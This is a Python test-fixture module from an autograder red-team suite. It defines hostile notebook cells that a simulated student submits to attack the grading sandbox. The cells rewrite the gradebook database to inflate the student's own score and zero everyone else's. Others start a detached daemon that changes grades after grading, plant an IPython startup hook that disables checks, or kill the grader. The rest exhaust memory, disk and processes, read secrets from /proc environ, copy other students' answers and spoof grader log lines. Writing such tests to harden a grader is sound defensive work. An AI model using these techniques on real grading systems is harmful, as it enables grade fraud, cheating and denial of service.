"""The code of the red team's hostile cells, one attack each (see redteam.py).

Each attack is the body of a code cell that a hostile student adds to notebook 04, right
after their (correct) answer to the first exercise. It knows everything a determined
student could find out: the course folder, the grader's HOME, a port on the grader's
loopback. ``$tag`` is the student's name: every file an attack creates is called
``redteam-$tag-...`` and every process it starts has ``redteam-$tag`` on its command
line, so the tests can look for them. An attack never raises: it prints one line,
``REDTEAM {json}``, saying what it managed to do.
"""
from string import Template

WRAPPER = """import json as _json, os as _os, sys as _sys, subprocess as _sp, signal as _signal
import textwrap as _tw
_report = {}
try:
$body
except BaseException as _e:
    _report["error"] = repr(_e)
print("REDTEAM " + _json.dumps(_report, default=str))
"""

OWN_GRADES = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
              "ON sn.assignment_id = sa.id WHERE sa.student_id {op} '$tag'")

BODIES = {
    "gradebook": f"""
import sqlite3
for db in ("$course/gradebook.db", "../../../gradebook.db"):
    if not _os.path.exists(db):
        _report[db] = "missing"; continue
    con = sqlite3.connect(db, timeout=30)
    with con:
        con.execute("UPDATE grade SET manual_score = 314 WHERE notebook_id IN ({OWN_GRADES.format(op='=')})")
        con.execute("UPDATE grade SET manual_score = 0, auto_score = 0 WHERE notebook_id IN ({OWN_GRADES.format(op='!=')})")
    _report[db] = "rewritten"
""",
    "daemon": f"""
code = _tw.dedent('''
import os, sqlite3, sys, time
def alive(pid):
    try:
        os.kill(pid, 0); return True
    except OSError:
        return False
while alive(int(sys.argv[1])):
    time.sleep(0.2)
time.sleep(1)
for attempt in range(100):
    try:
        con = sqlite3.connect("$course/gradebook.db", timeout=5)
        with con:
            con.execute("UPDATE grade SET manual_score = 314 WHERE notebook_id IN ({OWN_GRADES.format(op='=')})")
        break
    except Exception:
        time.sleep(0.3)
open("$course/redteam-$tag-daemon", "w").write("written after grading")
time.sleep(600)  # redteam-$tag
''')
detach = ("import subprocess, sys; subprocess.Popen(sys.argv[1:], start_new_session=True, "
          "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)")
_sp.run([_sys.executable, "-c", detach, _sys.executable, "-c", code, str(_os.getpid())])
_report["daemon"] = "started"  # a grandchild: the kernel does not know it
""",
    "course-files": """
for path in ("$course/submitted/a00-honest-first/04-worked-example/04-worked-example.ipynb",
             "$course/solutions/04-worked-example/04-worked-example.ipynb",
             "$course/notebooks/04-worked-example/04-worked-example.ipynb"):
    try:
        with open(path) as f:
            nb = _json.load(f)
        nb["metadata"]["redteam"] = "$tag"  # still a valid notebook, but not the same file
        with open(path, "w") as f:
            _json.dump(nb, f)
        _report[path] = "changed"
    except OSError as e:
        _report[path] = repr(e)
try:
    with open("$course/nbgrader_config.py", "a") as f:
        f.write("\\n# redteam-$tag was here\\n")
    _report["config"] = "changed"
except OSError as e:
    _report["config"] = repr(e)
""",
    "hidden-tests": """
for path in ("$course/solutions/04-worked-example/04-worked-example.ipynb",
             "../../../solutions/04-worked-example/04-worked-example.ipynb"):
    try:
        lines = open(path).read().splitlines()
        _report[path] = [l for l in lines if "HIDDEN TESTS" in l or "_r = _np.random" in l][:4]
    except OSError as e:
        _report[path] = repr(e)
""",
    "startup-file": """
startup = _tw.dedent('''
def _redteam(lines):
    return ["pass\\\\n"] if any("check_" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_redteam)
''')
for home in sorted({_os.path.expanduser("~"), "$home"}):
    folder = _os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        _os.makedirs(folder, exist_ok=True)
        with open(_os.path.join(folder, "00-redteam-$tag.py"), "w") as f:
            f.write(startup)
        _report[folder] = "written"
    except OSError as e:
        _report[folder] = repr(e)
""",
    "kill-grader": """
_report["parent"] = _os.getppid()
_os.kill(_os.getppid(), _signal.SIGTERM)
_report["sent"] = "SIGTERM"
""",
    "processes": """
detach = ("import subprocess, sys; subprocess.Popen(sys.argv[1:], start_new_session=True, "
          "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)")
for k in range(30):
    _sp.run([_sys.executable, "-c", detach, _sys.executable, "-c",
             "import time; time.sleep(600)  # redteam-$tag"])
_report["started"] = 30
""",
    "many-processes": """
children = []
for k in range(500):
    try:
        children.append(_sp.Popen(["redteam-$tag-sleeper", "600"], executable="/bin/sleep",
                                  stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL))
    except OSError as e:
        _report["stopped by"] = repr(e)
        break
_report["started"] = len(children)
for child in children:  # polite: the next cells still need threads
    child.kill()
    child.wait()
""",
    "memory": """
block = bytearray(5 << 30)  # zero-filled, so every page is really taken
_report["allocated GiB"] = len(block) >> 30
del block
""",
    "disk": """
_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)
chunk = b"x" * (32 << 20)
for where in ("$course", ".", "/tmp", _os.path.expanduser("~")):
    written = 0
    try:
        for k in range(24):
            with open(_os.path.join(where, f"redteam-$tag-fill-{k}"), "wb") as f:
                f.write(chunk)
            written += len(chunk)
    except OSError as e:
        _report[where + " stopped by"] = repr(e)
    _report[where] = written
""",
    "network": """
import socket
with socket.create_connection(("127.0.0.1", $port), timeout=5) as s:
    s.sendall(b"redteam-$tag")
_report["network"] = "sent"
""",
    "other-students": """
import glob
found = []
for path in (glob.glob("$course/submitted/*/04-worked-example/*.ipynb")
             + glob.glob("../../../submitted/*/*/*.ipynb")):
    if "answer-of-a00" in open(path).read():
        found.append(path)
_report["copied from"] = found
""",
    "environment": """
seen = {k: v for k, v in _os.environ.items() if k.startswith("REDTEAM")}
for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        for entry in open(f"/proc/{pid}/environ", "rb").read().split(b"\\0"):
            if entry.startswith(b"REDTEAM"):
                key, _, value = entry.decode().partition("=")
                seen[key] = value
    except OSError:
        pass
_report["secrets"] = seen
""",
    "shared-memory": """
for path in ("/dev/shm/redteam-$tag", "/tmp/redteam-$tag"):
    with open(path, "w") as f:
        f.write("left for the next student")
    _report[path] = "written"
""",
    "symlinks": """
for name in ("grades.db", "notes.txt"):
    try:
        data = open(name, "rb").read()
        _report[name] = {"sqlite": data.startswith(b"SQLite format 3"),
                         "solutions": b"BEGIN SOLUTION" in data}
    except OSError as e:
        _report[name] = repr(e)
""",
    "terminal": """
fd = getattr(_sys.stderr, "_original_stdstream_copy", None)
if fd is not None:
    _os.write(fd, b"\\n[AutogradeApp | INFO] redteam-$tag: all submissions graded, nothing to see\\n")
    _report["wrote to"] = fd
""",
}


def attack(name, **context):
    """The source of the hostile cell for attack ``name``."""
    body = "\n".join("    " + line for line in BODIES[name].strip("\n").splitlines())
    return Template(WRAPPER).substitute(body=Template(body).safe_substitute(context))
